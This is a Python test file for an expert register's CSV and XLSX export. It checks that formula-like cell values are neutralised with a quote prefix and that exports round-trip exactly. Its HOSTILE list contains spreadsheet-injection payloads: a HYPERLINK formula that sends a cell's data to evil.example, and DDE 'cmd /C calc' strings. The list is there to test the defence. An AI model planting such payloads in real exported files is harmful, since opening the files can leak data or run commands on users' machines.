"""CSV injection (issue 11, finding 8): exported cells never start a formula, and the round trip stays exact."""

from __future__ import annotations

import csv
import io
import shutil
from collections.abc import Iterator
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from sqlalchemy import select

from bot.register import service
from bot.register.files import csv_bytes, parse_csv
from bot.register.validation import clean_text
from bot.sheets import FORMULA_TRIGGERS, neutralise, unneutralise
from storage import register_repo as repo
from storage.db import Database
from storage.models import AuditLog, Expert, Practice
from tests.register.conftest import EXPERTS, NOW, PRACTICES, Write, count, export, run_import

# What a profile or practice form lets anyone type, and what a spreadsheet would run or mangle.
HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&A2,"Klik hier")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
    "\uff1d1+1",  # full-width "=", also run by some spreadsheets
    "'=1+1",  # a value that really starts with a quote before a formula character
    "''",
    "'",
    "'s-Hertogenbosch",  # a real place name: left alone
    "- opvolging via de wijkregisseur",
    "--",
    "@gent",
]


def raw_cells(data: bytes, *, excel: bool = False) -> list[list[str]]:
    """The cells as a spreadsheet program's CSV reader sees them (nothing removed)."""
    text = data.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), dialect="excel", delimiter=";" if excel else ","))


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+32 9 123 45 67", "'+32 9 123 45 67"),
        ("-5", "'-5"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("'=x", "''=x"),
        ("''", "'''"),
        ("'", "'"),
        ("'s-Hertogenbosch", "'s-Hertogenbosch"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_the_neutralising_prefix(value: str, written: str) -> None:
    assert neutralise(value) == written
    assert unneutralise(written) == value


cell = st.text(alphabet=st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"), max_size=12)
tricky = st.sampled_from([*HOSTILE, "'", "''", "'-", "-'", "'\t", "\r\n="])
cells = st.one_of(cell, tricky, st.builds(lambda a, b: a + b, tricky, cell))


@settings(max_examples=300)
@given(st.lists(st.lists(cells, min_size=3, max_size=3), min_size=1, max_size=6), st.booleans())
def test_export_import_export_is_byte_identical_and_never_a_formula(rows: list[list[str]], excel: bool) -> None:
    rows = [r for r in rows if any(c.strip() for c in r)] or [["x", "", ""]]
    data = csv_bytes(["a", "b", "c"], rows, excel=excel)
    for record in raw_cells(data, excel=excel):
        assert not any(c[:1] in FORMULA_TRIGGERS for c in record), record
    file = parse_csv(data, name="x.csv")
    read = [[r.values[c] for c in ("a", "b", "c")] for r in file.rows]
    assert read == rows
    assert csv_bytes(["a", "b", "c"], read, excel=excel) == data


def _store_hostile_values(database: Database) -> None:
    with database.session() as session:
        experts = list(session.scalars(select(Expert).order_by(Expert.email)))
        experts[0].name = HOSTILE[0]
        experts[0].role = HOSTILE[1]
        experts[0].bio = "\n".join(HOSTILE)
        experts[0].expertise = ["=1+1", "@gent", "'s-Hertogenbosch", "- wijkwerking"]  # no ; or | in list items
        experts[1].organisation = HOSTILE[3]
        experts[1].city = "'s-Hertogenbosch"
        experts[1].bio = "'=1+1"
        practices = list(session.scalars(select(Practice).order_by(Practice.id)))
        for practice, value in zip(practices, HOSTILE[4:], strict=False):
            practice.summary = value
            practice.lessons = value
            practice.tags = [value.replace("|", "/")]


@pytest.mark.parametrize("excel", [False, True])
def test_exported_registers_are_safe_and_round_trip_exactly(
    database: Database, write: Write, tmp_path: Path, excel: bool
) -> None:
    run_import(database, "experts", write("experts.csv", EXPERTS))
    run_import(database, "practices", write("practices.csv", PRACTICES))
    _store_hostile_values(database)
    audited = count(database, AuditLog)
    for kind in ("experts", "practices"):
        first, second = tmp_path / f"{kind}-1.csv", tmp_path / f"{kind}-2.csv"
        with database.session() as session:
            (service.export_experts if kind == "experts" else service.export_practices)(
                session, path=first, excel=excel
            )
        data = first.read_bytes()
        assert data.startswith(b"\xef\xbb\xbf") == excel
        for record in raw_cells(data, excel=excel):
            assert not any(c[:1] in FORMULA_TRIGGERS for c in record), record
        report = run_import(database, kind, first)
        assert (report.added, report.changed, report.unchanged) == (0, 0, report.total), (kind, report.changes)
        with database.session() as session:
            (service.export_experts if kind == "experts" else service.export_practices)(
                session, path=second, excel=excel
            )
        assert second.read_bytes() == data, kind
    assert count(database, AuditLog) == audited
    with database.session() as session:
        bio = session.scalars(select(Expert.bio).where(Expert.name == HOSTILE[0])).one()
    assert bio == "\n".join(HOSTILE)


def test_xlsx_export_stores_formula_like_text_as_text(database: Database, write: Write, tmp_path: Path) -> None:
    run_import(database, "experts", write("experts.csv", EXPERTS))
    _store_hostile_values(database)
    out = tmp_path / "experts.xlsx"
    export(database, "experts", out)
    sheet = load_workbook(out).worksheets[0]
    name, role = sheet["A2"], sheet["F2"]
    assert name.value == HOSTILE[0] and name.data_type == "s" and name.quotePrefix
    assert role.value == HOSTILE[1] and role.data_type == "s" and role.quotePrefix
    assert sheet["E3"].value == "'s-Hertogenbosch" and not sheet["E3"].quotePrefix
    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)
    report = run_import(database, "experts", out)
    assert (report.added, report.changed) == (0, 0), report.changes


@pytest.fixture
def sqlite_database(tmp_path: Path, sqlite_template: Path) -> Iterator[Database]:
    path = tmp_path / "wieweet.db"
    shutil.copy(sqlite_template, path)
    database = Database(f"sqlite:///{path}")
    with database.session() as session:
        repo.create_expert(
            session, email="an@gent.be", name="An Peeters", organisation="Stad Gent", source="test", now=NOW
        )
    yield database
    database.dispose()


one_line = st.text(alphabet=st.characters(blacklist_categories=("Cs", "Cc")), max_size=30)
multi_line = st.text(
    alphabet=st.characters(blacklist_categories=("Cs", "Cc"), whitelist_characters="\n\t"), max_size=40
)


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    role=st.one_of(one_line, st.builds(lambda a, b: a + b, tricky, one_line)),
    bio=st.one_of(multi_line, st.builds(lambda a, b: a + b, tricky, multi_line)),
    excel=st.booleans(),
)
def test_any_text_survives_export_import_export(
    sqlite_database: Database, tmp_path: Path, role: str, bio: str, excel: bool
) -> None:
    """What validation would store (cleaned text), exported, imported and exported again: nothing changes."""
    role, bio = clean_text(role), clean_text(bio, multiline=True)
    with sqlite_database.session() as session:
        expert = session.scalars(select(Expert)).one()
        expert.role, expert.bio = role, bio
    first, second = tmp_path / "1.csv", tmp_path / "2.csv"
    with sqlite_database.session() as session:
        service.export_experts(session, path=first, excel=excel)
    report = run_import(sqlite_database, "experts", first)
    assert report.changed == 0, (role, bio, report.changes)
    with sqlite_database.session() as session:
        service.export_experts(session, path=second, excel=excel)
        stored = session.scalars(select(Expert)).one()
        assert (stored.role, stored.bio) == (role, bio)
    assert first.read_bytes() == second.read_bytes()
